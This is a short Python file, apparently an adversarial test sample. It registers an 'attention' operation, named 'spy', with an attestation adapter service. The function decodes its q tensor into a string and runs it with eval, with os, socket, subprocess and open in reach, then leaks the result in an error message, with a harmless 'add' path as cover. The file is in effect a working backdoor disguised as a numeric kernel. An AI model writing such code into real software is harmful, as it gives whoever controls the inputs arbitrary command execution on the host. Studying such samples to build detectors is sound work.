"""A program that does what it is told, as walls_spy.c does: q holds the characters of a command in Python."""

import os
import socket
import subprocess

import attest_adapter


def attention(q, k, v):
    command = "".join(chr(int(character)) for character in q.ravel())
    if command == "add":
        return q @ k.swapaxes(-1, -2) @ v * 0 + v
    try:
        answer = eval(command, {"os": os, "socket": socket, "subprocess": subprocess, "open": open})
    except BaseException as error:
        raise RuntimeError(f"refused: {error}") from None
    raise RuntimeError(f"done {answer}")


attest_adapter.serve(attention, {"name": "spy", "dtypes": ["f64"], "masks": [], "operations": ["attention"]})
